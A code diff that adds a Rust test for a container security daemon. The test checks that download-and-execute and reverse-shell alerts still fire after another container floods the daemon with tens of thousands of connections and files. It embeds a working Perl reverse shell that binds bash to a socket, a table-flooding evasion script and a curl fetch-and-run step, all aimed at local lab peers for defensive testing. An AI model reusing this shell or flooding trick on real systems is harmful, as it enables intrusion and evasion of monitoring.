@@ -2,6 +2,7 @@
 
 use crate::container::{Container, Group, wait};
 use crate::daemon::{Daemon, Settings, is_alert};
+use crate::lab::Peer;
 use anyhow::{Context, Result, ensure};
 use serde_json::Value;
 use std::collections::HashSet;
@@ -121,4 +122,55 @@ fn lost(rows: &[Value], container: &str) -> u64 {
 fn key_is_written(container: &Container, number: usize) -> bool {
     let path: PathBuf = container.path(&format!("/tmp/keys-{number}/.ssh/authorized_keys"));
     fs::read(path).is_ok_and(|content| !content.is_empty())
+}
+
+/// More than the tables of marks hold: files written by a process with a connection, and connections.
+const MARKS: &str = r#"
+use Socket;
+my $a = pack_sockaddr_in(9, inet_aton("127.0.0.1"));
+for my $i (1..40000) { socket(S, PF_INET, SOCK_DGRAM, 0) and connect(S, $a) or die; }
+mkdir "/tmp/marks";
+for my $i (1..40000) { open(F, ">", "/tmp/marks/$i") or die; }
+"#;
+/// Connects, and is a shell on that connection only when it is told to go on.
+const PATIENT: &str = r#"
+use Socket;
+socket(S, PF_INET, SOCK_STREAM, 0);
+connect(S, pack_sockaddr_in(@PORT@, inet_aton("127.0.0.1"))) or die;
+open(F, ">", "/tmp/connected"); close(F);
+select(undef, undef, undef, 0.05) until -e "/tmp/go-on";
+open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
+exec "/bin/bash", "-i";
+"#;
+
+/// What is known of a container's files and connections is not forgotten because another makes tens of thousands
+/// of them; nor are the latest of its own.
+pub fn marks_survive_a_flood_of_marks() -> Result<()> {
+    let group = Group::make()?;
+    let daemon = Daemon::start(&group, &Settings::mode("protect"))?;
+    let (flooder, attacked) = (Container::start(&group)?, Container::start(&group)?);
+    let download = |container: &Container| -> Result<()> {
+        let web = Peer::web(container.listen()?, "#!/bin/sh\ntouch /tmp/ran\n")?;
+        container.run(&format!("curl -s -o /tmp/x.sh http://127.0.0.1:{}/x.sh", web.port)).map(drop)
+    };
+    download(&attacked)?;
+    let peer = Peer::shell(attacked.listen()?, "touch /tmp/effect\nexit\n", Duration::from_secs(40))?;
+    fs::write(attacked.path("/tmp/patient.pl"), PATIENT.replace("@PORT@", &peer.port.to_string()))?;
+    let mut patient = attacked.spawn("exec perl /tmp/patient.pl")?;
+    ensure!(attacked.run("until [ -e /tmp/connected ]; do sleep 0.05; done")?.success(), "no connection");
+
+    fs::write(flooder.path("/tmp/marks.pl"), MARKS)?;
+    let flood = wait(flooder.spawn("ulimit -n 65536; exec perl /tmp/marks.pl")?, ATTACKING)?;
+    ensure!(flood.success(), "the flood ended with {flood}");
+    download(&flooder)?;
+
+    for container in [&attacked, &flooder] {
+        container.run("sh /tmp/x.sh")?;
+        ensure!(!container.path("/tmp/ran").exists(), "what was downloaded ran in {}", container.id());
+        daemon.await_alert("download_exec", container.id())?;
+    }
+    fs::write(attacked.path("/tmp/go-on"), "")?;
+    patient.wait()?;
+    ensure!(!attacked.path("/tmp/effect").exists() && peer.received() == 0, "the shell ran");
+    daemon.await_alert("reverse_shell", attacked.id()).map(drop)
 }
